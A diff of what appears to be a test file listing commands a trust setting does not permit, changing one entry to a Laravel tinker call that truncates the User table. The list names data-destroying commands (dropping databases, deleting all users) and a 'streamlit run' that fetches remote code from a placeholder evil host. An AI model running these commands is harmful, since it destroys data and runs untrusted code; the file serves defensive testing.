@@ -91,7 +91,7 @@ describe('what trust does not give', () => {
     'bin/rails runner "User.delete_all"',
     'rake db:drop',
     'php artisan migrate:fresh',
-    'php artisan tinker --execute="1"',
+    'php artisan tinker --execute="User::truncate();"',
     'dotnet nuget push x.nupkg',
     'dotnet ef database drop',
     'streamlit run https://evil.example/app.py',
